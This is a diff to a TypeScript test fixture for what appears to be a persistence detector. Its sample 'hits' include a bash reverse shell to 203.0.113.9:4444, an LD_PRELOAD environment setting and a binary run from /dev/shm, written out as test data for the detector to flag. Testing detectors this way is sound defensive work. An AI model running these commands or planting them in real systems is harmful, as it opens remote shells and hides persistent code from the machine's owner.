@@ -221,6 +221,7 @@ export const samples: Readonly<Record<string, Samples>> = {
     hits: [
       { readings: { persistence: read([staying({ runs: ["/bin/bash -i >& /dev/tcp/203.0.113.9/4444"] })]) } },
       { readings: { persistence: read([staying({ odd: ["control characters hide part of the line"] })]) } },
+      { readings: { persistence: read([staying({ mechanism: "shell-startup", odd: ["is odd"] })]) } },
       { readings: { persistence: read([staying({ runs: ["/dev/shm/x"] })]) } },
       { readings: { persistence: read([staying({ sets: ["Environment=LD_PRELOAD=/usr/lib/x.so"] })]) } },
       { readings: { persistence: read([staying({ kind: "unreadable" })]) } },
@@ -235,6 +236,8 @@ export const samples: Readonly<Record<string, Samples>> = {
         readings: {
           persistence: read([
             staying(),
+            // Judged by a mark of its own.
+            staying({ mechanism: "systemd-user", runs: ["/dev/shm/x"] }),
             staying({ package: "cron", file: { bytes: 1, mode: 0o644, uid: 0, modifiedAt: during } }),
           ]),
         },
